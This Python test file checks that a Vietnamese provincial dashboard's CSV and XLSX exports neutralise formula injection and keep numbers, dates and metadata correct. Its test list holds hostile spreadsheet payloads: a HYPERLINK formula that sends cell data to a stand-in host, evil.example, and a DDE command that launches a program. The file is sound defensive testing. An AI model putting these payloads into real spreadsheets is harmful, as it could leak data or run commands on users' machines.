"""Downloads are safe to open in Excel (``dxboard/safe_export.py``): a text cell or column name
starting with = + - @ tab or CR gets an apostrophe, numbers (negative ones too) stay numbers.
Files are read back as Excel would see them: CSV with the csv module, XLSX with python-calamine.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC
from pathlib import Path

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from cli.main import main
from dxboard.store import Store
from loaders.ingest import ingest_bytes
from loaders.writers import neutralise, safe_frame, to_csv_bytes, to_xlsx_bytes, write_frame
from tests.helpers import fill_template, good_evidence, good_values

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
    "-",
    "=",
]
HARMLESS = ["Hà Nội", "a=b", "1-2", " =not at start", "", "'already quoted"]
NUMBERS = [-2, -3.5, -1e6, 0, 7, -0.25, 4, -9, 1, 2, 3, -4, 5, 6, 8][: len(DANGEROUS + HARMLESS)]
COLUMNS = ["=cmd", "+total", "-delta", "@who", "\tname", "tỉnh"]


def _frame() -> pd.DataFrame:
    texts = DANGEROUS + HARMLESS
    return pd.DataFrame(
        {
            COLUMNS[0]: texts,  # pandas' default string dtype
            COLUMNS[1]: NUMBERS,  # floats, some negative
            COLUMNS[2]: [int(n) for n in NUMBERS],  # ints, some negative
            COLUMNS[3]: pd.array(texts, dtype="string"),
            COLUMNS[4]: pd.Series(texts, dtype=object),
            COLUMNS[5]: [t if i % 2 else -i for i, t in enumerate(texts)],  # mixed text and numbers
        }
    )


def _same(got: str, original: str) -> bool:
    """Equal up to the line-break normalisation of the XLSX writer (CR is stored as LF)."""
    return got.replace("\r", "\n") == original.replace("\r", "\n")


def _expected_text(original: str) -> str:
    return "'" + original if original in DANGEROUS else original


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 Vietnamese correctly
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralise_prefixes_every_trigger(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, -2, -2.5, 0, None, 3])
def test_neutralise_leaves_harmless_values(value: object) -> None:
    assert neutralise(value) == value


def test_csv_cells_and_headers_are_neutralised() -> None:
    """Every trigger except a carriage return (see the next test) on its own."""
    texts = [t for t in DANGEROUS + HARMLESS if "\r" not in t]
    df = _frame()
    df = df[~df[COLUMNS[0]].str.contains("\r")]
    header, *rows = _csv_rows(to_csv_bytes(df))
    assert header == ["'=cmd", "'+total", "'-delta", "'@who", "'\tname", "tỉnh"]
    assert len(rows) == len(texts)
    for (i, row), original in zip(zip(df.index, rows, strict=True), texts, strict=True):
        for col in (0, 3, 4):
            assert row[col] == _expected_text(original), (i, col, row[col])
        assert float(row[1]) == NUMBERS[i] and not row[1].startswith("'")
        assert int(row[2]) == int(NUMBERS[i]) and not row[2].startswith("'")
        if i % 2:
            assert row[5] == _expected_text(original)
        else:
            assert row[5] == str(-i)  # a negative number in a text column stays a number
    for row in rows[: len(DANGEROUS) - 1]:
        assert row[0].startswith("'") and row[3].startswith("'") and row[4].startswith("'")


@pytest.mark.parametrize("value", ["\rx", "x\r=1+1", "\r@SUM(A1:A9)"])
def test_csv_keeps_a_cell_with_a_carriage_return_in_one_row(value: str) -> None:
    df = pd.DataFrame({"note": [value, "next"], "value": [-1, 2]})
    header, *rows = _csv_rows(to_csv_bytes(df))
    assert header == ["note", "value"]
    assert rows == [[neutralise(value), "-1"], ["next", "2"]]


def test_xlsx_cells_and_headers_are_neutralised() -> None:
    header, *rows = _xlsx_rows(to_xlsx_bytes(_frame()))
    assert header == ["'=cmd", "'+total", "'-delta", "'@who", "'\tname", "tỉnh"]
    texts = DANGEROUS + HARMLESS
    for i, (row, original) in enumerate(zip(rows, texts, strict=True)):
        for col in (0, 3, 4):
            assert isinstance(row[col], str) and _same(row[col], _expected_text(original)), (
                i,
                col,
                row[col],
            )
        assert isinstance(row[1], float) and row[1] == NUMBERS[i]
        assert isinstance(row[2], int | float) and row[2] == int(NUMBERS[i])
        if i % 2:
            assert _same(row[5], _expected_text(original))
        else:
            assert isinstance(row[5], int | float) and row[5] == -i
    for row in rows[: len(DANGEROUS)]:
        assert all(str(row[c]).startswith("'") for c in (0, 3, 4))


def test_no_formula_is_written_to_the_xlsx() -> None:
    """openpyxl turns a string starting with "=" into a formula cell; the prefix prevents it."""
    import openpyxl

    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(_frame()))).active
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_safe_frame_does_not_change_the_input() -> None:
    df = _frame()
    safe = safe_frame(df)
    assert list(df.columns) == COLUMNS and df.iloc[0, 0] == DANGEROUS[0]
    assert safe.iloc[0, 0] == "'" + DANGEROUS[0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_frame_files(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out.{fmt}"
    write_frame(_frame(), out, fmt)
    rows = _csv_rows(out.read_bytes()) if fmt == "csv" else _xlsx_rows(out.read_bytes())
    assert rows[0][0] == "'=cmd" and rows[1][0] == "'" + DANGEROUS[0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_raw_neutralises_notes_and_reference_numbers(tmp_path: Path, fmt: str) -> None:
    """A note or document number typed into a report cannot become a formula on download."""
    notes = {"procedures_total": "-2+3 (tạm tính)", "budget_total": "@SUM(A1:A9)"}
    evidence = {
        **good_evidence(),
        "steering_committee": ("+84/QĐ-UBND", good_evidence()["steering_committee"][1]),
    }
    data = fill_template("Đà Nẵng", "2024-Q2", good_values(), notes=notes, evidence=evidence)
    with Store() as store:
        result = ingest_bytes(store, data, "dn.xlsx")
        assert result.status == "accepted", [p.message_en for p in result.errors]
    out = tmp_path / f"raw.{fmt}"
    assert main(["export", "raw", "--period", "2024-Q2", "-o", str(out)]) == 0
    rows = _csv_rows(out.read_bytes()) if fmt == "csv" else _xlsx_rows(out.read_bytes())
    header = rows[0]
    by_field = {r[header.index("field")]: r for r in rows[1:]}
    note = header.index("note")
    assert by_field["procedures_total"][note] == "'-2+3 (tạm tính)"
    assert by_field["budget_total"][note] == "'@SUM(A1:A9)"
    assert by_field["steering_committee"][header.index("ref_no")] == "'+84/QĐ-UBND"
    value = by_field["procedures_total"][header.index("value")]
    assert float(value) == 1800 and not str(value).startswith("'")


# --------------------------------------------------------------------------- dressed workbooks
def _dressed() -> bytes:
    from datetime import date

    from metrics.export import metadata

    df = pd.DataFrame(
        {
            "province_code": ["01", "79"],
            "Tỉnh": ["Hà Nội", "Hồ Chí Minh"],
            "value (%)": [100.0, 87.25],
            "deadline": [date(2025, 12, 31), None],
        }
    )
    meta = metadata("ranking", "2026-Q3", "reported", ["demo"], "vi")
    return to_xlsx_bytes(df, "data", meta)


def test_xlsx_numbers_are_numbers_and_dates_are_dates() -> None:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(_dressed()))
    ws = wb["data"]
    assert ws["A2"].value == "01" and ws["A2"].data_type == "s"  # codes stay text
    assert ws["C2"].data_type == "n" and ws["C3"].value == 87.25
    assert ws["D2"].is_date and ws["D2"].value.date().isoformat() == "2025-12-31"
    assert ws["D2"].number_format == "dd/mm/yyyy"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width >= len("Hồ Chí Minh")


def test_xlsx_metadata_sheet() -> None:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(_dressed()))
    assert wb.sheetnames == ["data", "metadata"]
    rows = {r[0]: r[1] for r in wb["metadata"].iter_rows(values_only=True)}
    assert rows["Bảng"] == "ranking" and rows["Bộ dữ liệu"] == "demo"
    assert rows["Loại dữ liệu"].startswith("Giả lập")
    assert rows["Kỳ"] == "Quý III/2026 (2026-Q3)"
    assert rows["Ranh giới tỉnh"] == "Như đã báo cáo"
    assert "(2025)" in rows["Bộ chỉ tiêu"] and "Sở Khoa học và Công nghệ" in rows["Nguồn"]
    assert rows["Lập lúc"].endswith("(giờ Việt Nam, UTC+7)")


def test_metadata_of_real_data_in_english() -> None:
    from datetime import datetime

    from metrics.export import metadata

    at = datetime(2026, 11, 30, 20, 0, tzinfo=UTC)  # 03:00 the next day in Vietnam
    rows = dict(metadata("t", "2024-Q4", "current", ["official"], "en", generated=at))
    assert rows["Kind of data"].startswith("Real")
    assert rows["Period"] == "Q4 2024 (2024-Q4)"
    assert rows["Generated at"].startswith("2026-12-01 03:00")


def test_csv_for_vietnamese_excel() -> None:
    df = pd.DataFrame({"province_code": ["01"], "value": [87.25], "n": [3]})
    text = to_csv_bytes(df, vietnamese=True).decode("utf-8-sig")
    assert text.splitlines() == ["province_code;value;n", "01;87,25;3"]
    assert to_csv_bytes(df).decode("utf-8-sig").splitlines()[1] == "01,87.25,3"
